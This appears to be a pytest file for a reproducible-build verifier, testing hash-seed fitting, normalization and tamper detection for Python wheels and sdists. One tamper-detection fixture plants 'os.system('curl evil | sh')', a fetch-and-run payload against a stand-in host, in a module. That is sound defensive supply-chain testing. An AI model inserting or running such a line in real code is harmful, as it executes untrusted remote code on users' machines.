"""What a verdict rests on besides reading, tested offline with rebuilders that build nothing.

The hash seed is fitted by rebuilding until the published bytes come out; the normalization
is fitted when the published file is already canonical; an sdist's recipe inherits the
wheel's backend and Python with their evidence, and nothing else; a published wheel that was
tampered with stays ``different``.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from pathlib import Path

import pytest

from reprobuild.build import BuildResult, BuildSpec, Progress
from reprobuild.errors import BuildError
from reprobuild.frontend import Sandbox, SandboxMode
from reprobuild.normalize import Policy, normalize_bytes
from reprobuild.rebuild import ArtifactResult, Verdict, Verification, verify_sdist
from reprobuild.rebuild.document import result_document
from reprobuild.rebuild.page import verification_page
from reprobuild.rebuild.verify import HASH_SEED_TRIES
from reprobuild.strategy import Evidence, Fitted, Recipe
from tests.factories import make_sdist, make_wheel
from tests.rebuild.offline import verify_demo

WHEEL = "demo-1.0-py3-none-any.whl"
SDIST = "demo-1.0.tar.gz"
NO_SANDBOX = Sandbox(mode=SandboxMode.NONE)
#: one module older than the rest: no SOURCE_DATE_EPOCH, so no canonical form to detect
TIMES = {"demo/__init__.py": (2020, 1, 1, 0, 0, 0)}
EPOCH = int(datetime(2021, 3, 4, 5, 6, 8, tzinfo=UTC).timestamp())


class Rebuilder:
    """Writes the file ``make(spec)`` gives (name -> bytes) into the spec's output folder, or
    raises the :class:`BuildError` it returns; remembers every spec."""

    def __init__(self, make: Callable[[BuildSpec], Mapping[str, bytes] | BuildError]) -> None:
        self.make = make
        self.specs: list[BuildSpec] = []

    def __call__(self, spec: BuildSpec, *, progress: Progress | None = None) -> BuildResult:
        self.specs.append(spec)
        made = self.make(spec)
        if isinstance(made, BuildError):
            raise made
        spec.outdir.mkdir(parents=True, exist_ok=True)
        paths = []
        for name, data in made.items():
            (spec.outdir / name).write_bytes(data)
            paths.append(spec.outdir / name)
        return BuildResult(
            outputs=(),
            paths=tuple(paths),
            buildinfo_path=spec.outdir / "demo.buildinfo.json",
            buildinfo={},
        )


def _metadata(order: tuple[str, ...]) -> bytes:
    requires = "".join(f"Requires-Dist: {name}\n" for name in order)
    return f"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n{requires}".encode()


#: a set's order (not sorted: a writer that sorts is told apart, see the test of it)
PUBLISHED_ORDER = ("bbb", "aaa", "ccc")
OTHER_ORDER = ("ccc", "aaa", "bbb")


def _ordered(order: tuple[str, ...]) -> bytes:
    """The wheel whose METADATA lists Requires-Dist in ``order`` (a set's order: the seed's)."""
    return make_wheel(metadata=_metadata(order), mtime=TIMES)


def _verify(tmp_path: Path, published: bytes, rebuilder: Rebuilder) -> ArtifactResult:
    (tmp_path / WHEEL).write_bytes(published)
    (tmp_path / SDIST).write_bytes(make_sdist())
    return verify_demo(tmp_path / WHEEL, tmp_path / SDIST, tmp_path / "cache", rebuilder)


def _seeded(outcomes: Mapping[int, tuple[str, ...] | BuildError]) -> Rebuilder:
    """A rebuilder whose wheel's order is ``outcomes[seed]`` (the other order for a seed not
    named), or whose build fails with the error given for that seed."""

    def make(spec: BuildSpec) -> Mapping[str, bytes] | BuildError:
        outcome = outcomes.get(int(spec.hash_seed), OTHER_ORDER)
        return outcome if isinstance(outcome, BuildError) else {WHEEL: _ordered(outcome)}

    return Rebuilder(make)


def test_a_hash_seed_that_gives_the_published_order_is_fitted_with_its_tries(
    tmp_path: Path,
) -> None:
    rebuilder = _seeded({2: PUBLISHED_ORDER})
    result = _verify(tmp_path, _ordered(PUBLISHED_ORDER), rebuilder)
    assert result.verdict is Verdict.REPRODUCIBLE
    assert [spec.hash_seed for spec in rebuilder.specs] == ["0", "1", "2"]
    assert result.recipe is not None
    assert result.recipe.hash_seed == 2
    (fitted,) = result.fitted
    assert (fitted.field, fitted.value, fitted.tries) == ("hash_seed", "2", 3)
    assert "published wheel's bytes" in fitted.against
    assert "Requires-Dist" in fitted.reason
    # fitted, so not among what was read
    assert all(e.field != "hash_seed" for e in result.recipe.evidence)
    assert result.verdict_text == "reproducible (fitted: hash seed after 3 tries)"


def test_when_no_seed_gives_the_published_order_the_cause_says_so(tmp_path: Path) -> None:
    rebuilder = _seeded({})
    result = _verify(tmp_path, _ordered(PUBLISHED_ORDER), rebuilder)
    assert result.verdict is Verdict.DIFFERENT
    assert len(rebuilder.specs) == HASH_SEED_TRIES + 1
    assert result.cause.endswith(
        f"; no PYTHONHASHSEED from 0 to {HASH_SEED_TRIES} gives the publisher's order"
    )
    assert result.fitted == ()
    assert result.recipe is not None
    assert result.recipe.hash_seed == 0
    assert result.verdict_text == "different"


def test_a_retry_that_fails_to_build_ends_the_search_saying_no_seed_matched(
    tmp_path: Path,
) -> None:
    """The judged rebuild is seed 0's, which built: the verdict stays ``different``, and the
    cause says which seeds were tried and that the search stopped at a failed build (not that
    every seed up to the last was tried)."""
    rebuilder = _seeded({2: BuildError("the backend crashed", log_tail="Traceback ...")})
    result = _verify(tmp_path, _ordered(PUBLISHED_ORDER), rebuilder)
    assert result.verdict is Verdict.DIFFERENT
    assert [spec.hash_seed for spec in rebuilder.specs] == ["0", "1", "2"]  # no seed after 2
    assert "Requires-Dist in another order" in result.cause
    assert "no PYTHONHASHSEED from 0 to 1 gives the publisher's order" in result.cause
    assert "the rebuild with 2 failed (the backend crashed)" in result.cause
    assert f"from 0 to {HASH_SEED_TRIES}" not in result.cause
    assert result.fitted == ()
    assert result.rebuilt_sha256 is not None  # seed 0's rebuild, the one judged


def test_values_the_publisher_s_writer_sorted_are_not_blamed_on_a_hash_seed(
    tmp_path: Path,
) -> None:
    """Published sorted (an older setuptools sorted requires.txt), rebuilt in the project's
    order under every seed: the cause names the sorting writer, not a hash seed."""
    rebuilder = _seeded({})
    result = _verify(tmp_path, _ordered(("aaa", "bbb", "ccc")), rebuilder)
    assert result.verdict is Verdict.DIFFERENT
    assert "METADATA lists Requires-Dist sorted, the rebuild in the project's order" in (
        result.cause
    )
    assert "the publisher's writer sorted them" in result.cause
    assert "in the order of its PYTHONHASHSEED" not in result.cause
    assert result.fitted == ()
    # the twin: published in a set's order, the cause is the hash seed's
    (tmp_path / "set").mkdir()
    other = _verify(tmp_path / "set", _ordered(PUBLISHED_ORDER), _seeded({}))
    assert "in the order of its PYTHONHASHSEED" in other.cause
    assert "sorted" not in other.cause


def _specified(requirement: str) -> bytes:
    """The wheel whose METADATA requires ``requirement`` (its specifiers in a set's order)."""
    metadata = f"Metadata-Version: 2.0\nName: demo\nVersion: 1.0\nRequires-Dist: {requirement}\n"
    return make_wheel(metadata=metadata.encode(), mtime=TIMES)


PUBLISHED_SPECIFIERS = "py (<2.0.0,>=1.4.26)"


@pytest.mark.parametrize(
    ("rebuilt", "searched"),
    [("py (>=1.4.26,<2.0.0)", True), ("py (>=1.4.27,<2.0.0)", False), ("py>=1.4.26,<2.0.0", False)],
)
def test_specifiers_in_a_set_s_order_fit_the_hash_seed(
    tmp_path: Path, rebuilt: str, searched: bool
) -> None:
    """The wheel package before 0.30 wrote a requirement's specifiers from a set: when their
    order is all that differs, the seed is searched for (seed 3 gives the published order);
    another version, or another form of the same specifiers, is no order a seed gives."""

    def make(spec: BuildSpec) -> Mapping[str, bytes]:
        found = PUBLISHED_SPECIFIERS if spec.hash_seed == "3" else rebuilt
        return {WHEEL: _specified(found)}

    rebuilder = Rebuilder(make)
    result = _verify(tmp_path, _specified(PUBLISHED_SPECIFIERS), rebuilder)
    if not searched:
        assert [spec.hash_seed for spec in rebuilder.specs] == ["0"]
        assert result.verdict is Verdict.DIFFERENT
        assert "hash seed" not in result.cause
        return
    assert result.verdict is Verdict.REPRODUCIBLE
    assert [spec.hash_seed for spec in rebuilder.specs] == ["0", "1", "2", "3"]
    (fitted,) = result.fitted
    assert (fitted.field, fitted.value, fitted.tries) == ("hash_seed", "3", 4)
    assert "version specifiers of Requires-Dist" in fitted.reason
    assert result.verdict_text == "reproducible (fitted: hash seed after 4 tries)"


def test_when_no_seed_gives_the_specifiers_order_the_cause_says_why(tmp_path: Path) -> None:
    rebuilder = Rebuilder(lambda spec: {WHEEL: _specified("py (>=1.4.26,<2.0.0)")})
    result = _verify(tmp_path, _specified(PUBLISHED_SPECIFIERS), rebuilder)
    assert result.verdict is Verdict.DIFFERENT
    assert len(rebuilder.specs) == HASH_SEED_TRIES + 1
    assert result.cause.startswith("METADATA writes the version specifiers of Requires-Dist")
    assert result.cause.endswith("gives the publisher's order")


@pytest.mark.parametrize(
    ("modules", "times"), [((2021, 3, 4, 5, 6, 0), "epoch"), ((2020, 1, 1, 0, 0, 0), "members")]
)
def test_the_sources_time_times_every_unpacked_file_and_is_not_exported(
    tmp_path: Path, modules: tuple[int, int, int, int, int, int], times: str
) -> None:
    """A published wheel whose modules all carry one time after the sdist's (its sources
    were written then): the rebuild unpacks every sdist file at that time, read, not fitted,
    without SOURCE_DATE_EPOCH; the twin with the sdist's own times unpacks each member's."""
    built = (2021, 3, 4, 5, 6, 8)
    dist_info = {f"demo-1.0.dist-info/{leaf}": built for leaf in ("METADATA", "WHEEL", "RECORD")}
    published = make_wheel(mtime={"demo/__init__.py": modules} | dist_info)
    (tmp_path / WHEEL).write_bytes(published)
    old = int(datetime(2020, 1, 1, tzinfo=UTC).timestamp())
    sdist = make_sdist(mtime={"demo/__init__.py": old})
    (tmp_path / SDIST).write_bytes(sdist)
    rebuilder = Rebuilder(lambda spec: {WHEEL: published})
    result = verify_demo(tmp_path / WHEEL, tmp_path / SDIST, tmp_path / "cache", rebuilder)
    (spec,) = rebuilder.specs
    assert spec.sdist_times == times
    assert spec.export_source_date_epoch is False
    assert result.recipe is not None
    if times == "epoch":
        year, month, day, hour, minute, second = modules
        when = int(datetime(year, month, day, hour, minute, second, tzinfo=UTC).timestamp())
        assert result.recipe.sources_time == spec.source_date_epoch == when
        assert result.verdict_text == "reproducible"  # read: nothing fitted
    else:
        assert result.recipe.sources_time is None


def _one_time() -> bytes:
    """A wheel whose members all carry EPOCH, as a build with SOURCE_DATE_EPOCH writes it,
    in no canonical order (its metadata comes first)."""
    when = datetime.fromtimestamp(EPOCH, UTC)
    stamp = (when.year, when.month, when.day, when.hour, when.minute, when.second)
    return make_wheel(mtime=stamp, dist_info_first=True)


def _canonical(data: bytes) -> bytes:
    return normalize_bytes(data, filename=WHEEL, policy=Policy(source_date_epoch=EPOCH)).data


def test_a_published_wheel_already_canonical_fits_the_normalization(tmp_path: Path) -> None:
    raw = _one_time()
    published = _canonical(raw)
    assert published != raw
    rebuilder = Rebuilder(lambda spec: {WHEEL: published if spec.normalize else raw})
    result = _verify(tmp_path, published, rebuilder)
    assert result.verdict is Verdict.REPRODUCIBLE
    (spec,) = rebuilder.specs
    assert spec.normalize is True
    (fitted,) = result.fitted
    assert (fitted.field, fitted.value, fitted.tries) == ("normalized", "yes", 1)
    assert "canonical form" in fitted.reason
    assert result.steps == ("normalized to reprobuild's canonical form",)
    assert result.verdict_text == (
        "reproducible (with step: normalized to reprobuild's canonical form)"
    )


def test_a_published_wheel_not_in_canonical_form_is_rebuilt_as_it_is(tmp_path: Path) -> None:
    raw = _one_time()
    rebuilder = Rebuilder(lambda spec: {WHEEL: _canonical(raw) if spec.normalize else raw})
    result = _verify(tmp_path, raw, rebuilder)
    assert result.verdict is Verdict.REPRODUCIBLE
    assert [spec.normalize for spec in rebuilder.specs] == [False]
    assert result.fitted == ()
    assert result.steps == ()
    assert result.verdict_text == "reproducible"  # earned by reading alone


FILES = {"demo/__init__.py": b"x = 1\n", "demo/core.py": b"def f():\n    return 2\n"}


@pytest.mark.parametrize("record", ["kept", "rewritten"])
def test_a_tampered_published_wheel_is_different(tmp_path: Path, record: str) -> None:
    """The rebuild is what the sdist makes; the published wheel has a module changed (its
    RECORD left as it was, or rewritten to match): never reproducible, nor equivalent."""
    honest = make_wheel(files=FILES, mtime=TIMES)
    changed = {**FILES, "demo/core.py": b"import os\nos.system('curl evil | sh')\n"}
    if record == "kept":
        kept = make_wheel(files=FILES, mtime=TIMES)
        tampered = make_wheel(
            files=changed, mtime=TIMES, record=_record_of(kept, "demo-1.0.dist-info/RECORD")
        )
    else:
        tampered = make_wheel(files=changed, mtime=TIMES)
    rebuilder = Rebuilder(lambda spec: {WHEEL: honest})
    result = _verify(tmp_path, tampered, rebuilder)
    assert result.verdict is Verdict.DIFFERENT
    assert "content differs in installed files: demo/core.py" in result.cause
    if record == "kept":  # the published RECORD no longer describes its files
        assert "the published file does not normalize: demo/core.py: RECORD gives" in result.cause
    assert result.verdict_text == "different"
    assert result.rebuilt_sha256 != result.sha256


def _record_of(wheel: bytes, name: str) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(wheel)) as archive:
        return archive.read(name)


# -- the sdist's recipe: what it inherits from the wheel's, with the evidence ----------------


def _wheel_recipe() -> Recipe:
    """A wheel's recipe with every field set: read ones with evidence, fitted ones fitted."""
    return Recipe(
        requirements=("wheel==0.36.2", "setuptools<62.2"),
        python="3.11.7",
        wanted_python="3.11",
        build_clock=EPOCH,
        exclude_newer=datetime(2021, 3, 5, tzinfo=UTC),
        umask=0o002,
        timezone="Europe/Berlin",
        universal=True,
        setup_py=True,
        hash_seed=3,
        keep_egg_info=True,
        normalized=True,
        evidence=(
            Evidence(field="requirements", value="wheel==0.36.2", reason="WHEEL Generator"),
            Evidence(field="requirements", value="setuptools<62.2", reason="Platform: UNKNOWN"),
            Evidence(field="wanted_python", value="3.11", reason="the newest CPython"),
            Evidence(field="python", value="3.11.7", reason="this machine has it"),
            Evidence(field="build_clock", value="2021", reason="the publisher's clock"),
            Evidence(field="universal", value="yes", reason="py2.py3"),
        ),
        fitted=(
            Fitted(field="timezone", value="Europe/Berlin", tries=400, against="t", reason="r"),
            Fitted(field="hash_seed", value="3", tries=4, against="b", reason="r"),
            Fitted(field="normalized", value="yes", tries=1, against="b", reason="r"),
        ),
    )


def test_an_sdist_recipe_inherits_the_backend_and_python_with_their_evidence(
    tmp_path: Path,
) -> None:
    published = make_sdist(files=FILES, mtime={"demo/__init__.py": EPOCH, "demo/core.py": 0})
    (tmp_path / SDIST).write_bytes(published)
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    rebuilder = Rebuilder(lambda spec: {SDIST: published})
    result = verify_sdist(
        checkout,
        tmp_path / SDIST,
        upload_time=datetime(2021, 3, 6, tzinfo=UTC),
        base=_wheel_recipe(),
        cache_dir=tmp_path / "cache",
        sandbox=NO_SANDBOX,
        rebuilder=rebuilder,
    )
    assert result.verdict is Verdict.REPRODUCIBLE
    recipe = result.recipe
    assert recipe is not None
    assert recipe.requirements == ("wheel==0.36.2", "setuptools<62.2")
    assert (recipe.python, recipe.wanted_python) == ("3.11.7", "3.11")
    inherited = [e for e in recipe.evidence if e.reason.startswith("from the wheel: ")]
    assert [(e.field, e.value) for e in inherited] == [
        ("requirements", "wheel==0.36.2"),
        ("requirements", "setuptools<62.2"),
        ("wanted_python", "3.11"),
        ("python", "3.11.7"),
    ]
    # the wheel's own clock, zone, seed and normalization are not the sdist's
    assert (recipe.timezone, recipe.hash_seed, recipe.normalized) == ("UTC", 0, False)
    assert (recipe.universal, recipe.setup_py, recipe.keep_egg_info) == (False, False, False)
    assert recipe.fitted == ()
    assert result.verdict_text == "reproducible"
    (spec,) = rebuilder.specs
    assert spec.overrides == recipe.requirements
    assert spec.normalize is False
    assert spec.timezone == "UTC"


# -- the shapes: JSON, HTML and text ---------------------------------------------------------


def _seed_result(tmp_path: Path) -> ArtifactResult:
    return _verify(tmp_path, _ordered(PUBLISHED_ORDER), _seeded({2: PUBLISHED_ORDER}))


def test_the_json_document_lists_what_was_fitted_apart_from_the_evidence(
    tmp_path: Path,
) -> None:
    document = json.loads(json.dumps(result_document(_seed_result(tmp_path))))
    assert document["verdict"] == "reproducible"  # unchanged for older readers
    assert document["verdict_text"] == "reproducible (fitted: hash seed after 3 tries)"
    assert document["with_steps"] == []
    recipe = document["recipe"]
    assert recipe["hash_seed"] == 2
    assert recipe["fitted"] == [
        {
            "field": "hash_seed",
            "value": "2",
            "tries": 3,
            "against": "the published wheel's bytes, rebuilt with seeds from 0 up",
            "reason": recipe["fitted"][0]["reason"],
        }
    ]
    assert all(e["field"] != "hash_seed" for e in recipe["evidence"])


def test_the_page_shows_the_fitted_fields_and_the_verdict_that_rests_on_them(
    tmp_path: Path,
) -> None:
    result = _seed_result(tmp_path)
    page = verification_page(
        [Verification(name="demo", version="1.0", sdist=SDIST, results=(result,))]
    )
    assert "reproducible (fitted: hash seed after 3 tries)" in page
    assert "<h3>Fitted" in page
    assert "<td>3</td>" in page


def test_the_text_shows_the_fitted_fields(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from reprobuild.cli.verify import _print_text

    result = _seed_result(tmp_path)
    _print_text(Verification(name="demo", version="1.0", sdist=SDIST, results=(result,)))
    out = capsys.readouterr().out
    assert f"{WHEEL}: reproducible (fitted: hash seed after 3 tries)" in out
    assert "    fitted (chosen by trying values against the published file, not read):" in out
    assert "      hash_seed = 2  (3 tries against the published wheel's bytes" in out
